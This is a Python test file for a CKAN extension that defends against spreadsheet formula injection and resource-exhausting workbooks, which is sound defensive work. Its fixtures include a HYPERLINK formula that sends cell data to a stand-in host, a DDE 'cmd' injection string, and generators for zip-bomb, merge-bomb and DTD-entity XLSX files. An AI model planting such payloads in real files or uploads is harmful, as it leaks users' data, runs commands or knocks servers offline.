"""Spreadsheets the extension writes cannot run formulas; workbooks it opens
cannot exhaust the server (ckanext.satudata.spreadsheet_safety)."""
from __future__ import annotations

import csv
import io
import os
import re
import tracemalloc
import zipfile
from typing import Any

import openpyxl
import pytest
from ckan.tests import factories, helpers
from openpyxl import Workbook

from ckanext.satudata.checks.reader import Unreadable, open_table
from ckanext.satudata.daftar_data import spreadsheet
from ckanext.satudata.report import exports
from ckanext.satudata.spreadsheet_safety import (
    WorkbookRefused,
    csv_row,
    open_workbook,
    restore,
    xlsx_row,
)
from ckanext.satudata.table_template import downloads, drafting

LINK = '=HYPERLINK("http://example.invalid/?d="&B5,"Lihat data")'

# Writing ----------------------------------------------------------------------


@pytest.mark.parametrize("text", [
    LINK, "=2+3", "+62 812 3456", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1",
    "''+x",
])
def test_formula_like_text_is_quoted_in_csv_and_restored(text):
    (written,) = csv_row([text])
    assert written == "'" + text
    assert restore(written) == text


@pytest.mark.parametrize("value", [
    -5, 3.25, 0, "-5", "+62", "-1.234,5", "12,5%", "-", "", "Jumlah", "'quoted",
    "a=b", None,
])
def test_numbers_and_plain_text_are_written_as_they_are(value):
    assert csv_row([value]) == [value]
    if isinstance(value, str):
        assert restore(value) == value


@pytest.mark.parametrize("write_only", [True, False])
def test_formula_like_text_is_a_text_cell_in_xlsx(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("S") if write_only else book.active
    sheet.append(xlsx_row(sheet, [LINK, "=2+3", -5, "-5", "Biasa"]))
    out = io.BytesIO()
    book.save(out)
    cells = next(openpyxl.load_workbook(out).worksheets[0].iter_rows())
    assert [c.value for c in cells] == [LINK, "=2+3", -5, "-5", "Biasa"]
    assert [c.data_type for c in cells] == ["s", "s", "n", "s", "s"]
    assert [c.quotePrefix for c in cells] == [True, True, False, False, False]


def _sheet_cells(content: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows()
            for cell in row]


def _no_formulas(content: bytes) -> None:
    assert all(cell.data_type != "f" for cell in _sheet_cells(content))


@pytest.mark.usefixtures("clean_db")
class TestDaftarDataExport:
    def _rows(self):
        sysadmin = factories.Sysadmin()
        org = factories.Organization(title="=cmd|' /C calc'!A0")
        helpers.call_action(
            "satudata_daftar_data_create", context={"user": sysadmin["name"]},
            tahun=2025, kode="DD-1", nama_data=LINK, owner_org=org["id"],
            jenis_data="statistik", klasifikasi_akses="terbuka", catatan="=2+3",
            definisi="-saja", satuan="-5")
        return helpers.call_action("satudata_daftar_data_list", tahun=2025)["results"]

    def test_csv_quotes_formulas_and_imports_back_unchanged(self):
        rows = self._rows()
        content = spreadsheet.write_rows(rows, "csv")
        table = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        cells = {h: v for h, v in zip(table[0], table[1], strict=True)}
        assert cells["Nama Data"] == "'" + LINK
        assert cells["Catatan"] == "'=2+3"
        assert cells["Definisi"] == "'-saja"
        assert cells["Satuan"] == "-5"  # a number, unchanged
        assert cells["Produsen Data"] == "'=cmd|' /C calc'!A0"
        back = spreadsheet.read_rows(content, 2025)
        (row,) = back.valid_rows
        assert row.data["nama_data"] == LINK
        assert row.data["catatan"] == "=2+3"
        assert row.data["definisi"] == "-saja"
        assert row.data["satuan"] == "-5"

    def test_xlsx_has_no_formula_and_imports_back_unchanged(self):
        rows = self._rows()
        content = spreadsheet.write_rows(rows, "xlsx")
        _no_formulas(content)
        texts = {c.value for c in _sheet_cells(content)}
        assert {LINK, "=2+3", "-saja"} <= texts
        (row,) = spreadsheet.read_rows(content, 2025).valid_rows
        assert row.data["nama_data"] == LINK
        assert row.data["catatan"] == "=2+3"


def _report() -> dict[str, Any]:
    opd = {"id": "o1", "name": "dinkes", "title": "=1+1"}
    return {
        "tahun": 2026, "mulai": "2026-01-01", "sampai": "2026-12-31",
        "daftar_status": [{"status": "draf", "label": "Draf"}],
        "ringkasan": {
            "opd": 1, "opd_dengan_baris": 1, "baris": 2, "usulan": 0,
            "ditetapkan": 2, "tertaut": 1, "porsi_tertaut": 0.5, "terlambat": 0,
            "dataset": 1, "terbit": 0, "terbit_periode": 0, "dikembalikan": 1,
            "langkah_diukur": 1, "langkah_sesuai_standar": 1,
            "kepatuhan_standar": 1.0, "status": {"draf": 1},
        },
        "per_opd": [{"organisasi": opd, "ditetapkan": 2, "tertaut": 1,
                     "dataset": 1, "status": {"draf": 1}, "terbit_periode": 0,
                     "terlambat": -3, "dikembalikan": 1}],
        "langkah": [],
        "pengembalian": [{
            "waktu": "2026-03-01T10:00:00", "organisasi": opd,
            "title": LINK, "label_transisi": "Tidak sesuai",
            "label_dari_status": "Diajukan", "nama_pengguna": "@admin",
            "catatan": "=2+3",
        }],
        "dataset_terbit": [],
        "ketersediaan": {
            "per_opd": [{"organisasi": opd, "baris": 2, "diperiksa": 1,
                         "tersedia": 1, "sebagian": 0, "tidak_tersedia": 0,
                         "belum_diperiksa": 1, "berita_acara": -4}],
            "ringkasan": {"baris": 2, "diperiksa": 1, "tersedia": 1, "sebagian": 0,
                        "tidak_tersedia": 0, "belum_diperiksa": 1,
                        "berita_acara": -4},
        },
    }


@pytest.mark.usefixtures("with_request_context")
class TestReportExports:
    def test_xlsx_has_no_formula_and_keeps_numbers(self):
        content = exports.xlsx_bytes(_report())
        _no_formulas(content)
        cells = _sheet_cells(content)
        texts = {c.value for c in cells if c.data_type == "s"}
        assert {LINK, "=2+3", "=1+1", "@admin"} <= texts
        assert -3 in {c.value for c in cells if c.data_type == "n"}

    def test_csv_quotes_formulas(self):
        text = exports.csv_bytes(_report()).decode("utf-8-sig")
        cells = {cell for row in csv.reader(io.StringIO(text), delimiter=";")
                 for cell in row}
        assert {"'" + LINK, "'=2+3", "'=1+1", "'@admin", "-3"} <= cells
        assert not any(c.startswith(("=", "@", "+")) for c in cells)


@pytest.mark.usefixtures("with_request_context")
def test_template_files_keep_titles_and_choices_as_text():
    template = {"name": "penduduk", "title": LINK}
    version: dict[str, Any] = {
        "version": 1, "options": {}, "dialect": {"delimiter": ","},
        "table_schema": {"fields": [
            {"name": "kecamatan", "title": "=2+3", "type": "string",
             "description": "@catatan", "constraints": {"enum": ["=1+1", "Sooko"]}},
            {"name": "jumlah", "type": "integer"},
        ]},
    }
    content = downloads.workbook(template, version)
    _no_formulas(content)
    texts = {c.value for c in _sheet_cells(content)}
    assert {LINK, "=2+3", "=1+1"} <= texts
    assert downloads.header_csv(version["table_schema"], {}) == (
        b"kecamatan,jumlah\r\n")


# Opening ----------------------------------------------------------------------

_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-'
    'package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.'
    'openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats'
    '.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships"><sheets><sheet name="Data" sheetId="1" r:id="rId1"/>'
    "</sheets></workbook>"
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats'
    '.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/></Relationships>'
)
_HEADER = (
    '<row r="1"><c r="A1" t="inlineStr"><is><t>ID</t></is></c>'
    '<c r="B1" t="inlineStr"><is><t>Nama Data</t></is></c></row>'
)


def crafted(sheet_data: str = _HEADER, *, before: str = "", after: str = "",
            prolog: str = "") -> bytes:
    """A few hundred bytes of XLSX whose only sheet says what the test wants."""
    sheet = (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
        f'main">{before}<sheetData>{sheet_data}</sheetData>{after}</worksheet>'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
    return out.getvalue()


def _merge(ref: str) -> str:
    return f'<mergeCells count="1"><mergeCell ref="{ref}"/></mergeCells>'


def _bomb() -> bytes:
    """20 MB of whitespace inside the sheet: about 20 KB zipped."""
    return crafted(_HEADER + " " * 20_000_000)


TRAPS = {
    "merge-A1:Z30000": (lambda: crafted(after=_merge("A1:Z30000")),
                        "menggabungkan (merge) lebih dari 200.000 sel"),
    "merge-whole-sheet": (lambda: crafted(after=_merge("A1:XFD1048576")),
                          "menggabungkan (merge)"),
    "dimension-whole-sheet": (
        lambda: crafted(before='<dimension ref="A1:XFD1048576"/>'),
        "menyatakan ukuran A1:XFD1048576"),
    "cell-at-XFD": (lambda: crafted('<row r="1"><c r="XFD1"><v>1</v></c></row>'),
                    "sampai kolom ke-16.384"),
    "row-beyond-excel": (lambda: crafted('<row r="2000000"><c><v>1</v></c></row>'),
                         "sampai baris 2.000.000"),
    "cells-over-the-cap": (
        lambda: crafted('<row r="1"><c r="ALL1"><v>1</v></c></row>'
                        '<row r="600000"><c><v>1</v></c></row>'),
        "lebih dari 5.000.000 sel"),
    "one-row-of-many-cells": (
        lambda: crafted('<row r="1">' + "<c/>" * 1001 + "</row>"),
        "lebih dari 1.000 sel dalam satu baris"),
    "zip-bomb": (_bomb, "ciri bom zip"),
    "entity-declaration": (
        lambda: crafted(prolog='<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]>'),
        "deklarasi DTD"),
}


@pytest.fixture
def no_openpyxl(monkeypatch):
    """Fails the test if the workbook reaches openpyxl at all."""
    def refuse(*args: Any, **kwargs: Any) -> None:
        raise AssertionError("openpyxl parsed a workbook the guard should refuse")

    monkeypatch.setattr(openpyxl, "load_workbook", refuse)


def test_crafted_files_are_small_and_valid_workbooks():
    """Without their trap, the crafted files open and read as workbooks."""
    for name, (make, _message) in TRAPS.items():
        assert len(make()) < 30_000, name
    opened = open_workbook(io.BytesIO(crafted(after=_merge("A1:B1"))))
    (sheet,) = opened.workbook.worksheets
    assert list(sheet.iter_rows(values_only=True)) == [("ID", "Nama Data")]
    assert opened.merged_ranges(sheet) == [(1, 1, 1, 2)]
    opened.close()


@pytest.mark.usefixtures("with_request_context", "no_openpyxl")
@pytest.mark.parametrize("trap", sorted(TRAPS))
def test_traps_are_refused_before_openpyxl_in_little_memory(trap):
    make, message = TRAPS[trap]
    content = make()
    tracemalloc.start()
    try:
        with pytest.raises(WorkbookRefused, match=re.escape(message)):
            open_workbook(io.BytesIO(content))
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 10_000_000, f"{peak:,} bytes"


@pytest.mark.usefixtures("with_request_context")
@pytest.mark.ckan_config("ckanext.satudata.xlsx.max_uncompressed_bytes", "1000000")
def test_the_total_size_cap_comes_from_the_config():
    content = crafted(_HEADER + "<row/>" * 200_000)
    with pytest.raises(WorkbookRefused, match="terlalu besar setelah diekstrak"):
        open_workbook(io.BytesIO(content))


@pytest.mark.usefixtures("with_request_context")
class TestEveryReaderIsGuarded:
    def test_daftar_data_import_shows_the_reason(self):
        preview = spreadsheet.read_rows(crafted(after=_merge("A1:Z30000")), 2025)
        assert preview.rows == []
        assert "menggabungkan (merge)" in preview.errors[0]

    def test_conformance_reader(self, tmp_path):
        path = os.path.join(tmp_path, "tabel.xlsx")
        with open(path, "wb") as f:
            f.write(crafted(before='<dimension ref="A1:XFD1048576"/>'))
        with pytest.raises(Unreadable) as refused:
            open_table(path, file_name="tabel.xlsx")
        assert refused.value.code == "xlsx-terlalu-besar"
        assert "A1:XFD1048576" in refused.value.params["reason"]

    def test_template_inference(self, tmp_path):
        path = os.path.join(tmp_path, "sampel.xlsx")
        with open(path, "wb") as f:
            f.write(_bomb())
        with pytest.raises(Unreadable) as refused:
            drafting.infer(path, file_name="sampel.xlsx")
        assert refused.value.code == "xlsx-terlalu-besar"


@pytest.mark.usefixtures("clean_db")
def test_import_page_refuses_with_the_reason_not_a_500(app):
    sysadmin = factories.Sysadmin()
    token = factories.APIToken(user=sysadmin["name"])["token"]
    response = app.post(
        "/satudata/daftar-data/import",
        data={"tahun": "2026",
              "upload": (io.BytesIO(crafted(after=_merge("A1:XFD1048576"))),
                         "lampiran.xlsx")},
        headers={"Authorization": token},
    )
    assert response.status_code == 200
    assert "menggabungkan (merge)" in response.body


@pytest.mark.usefixtures("clean_db")
def test_template_inference_api_answers_409_with_the_reason(app):
    sysadmin = factories.Sysadmin()
    token = factories.APIToken(user=sysadmin["name"])["token"]
    response = app.post(
        "/api/3/action/satudata_template_infer",
        data={"upload": (io.BytesIO(crafted(after=_merge("A1:Z30000"))),
                         "sampel.xlsx")},
        headers={"Authorization": token}, status=409,
    )
    assert "menggabungkan (merge)" in response.json["error"]["upload"][0]
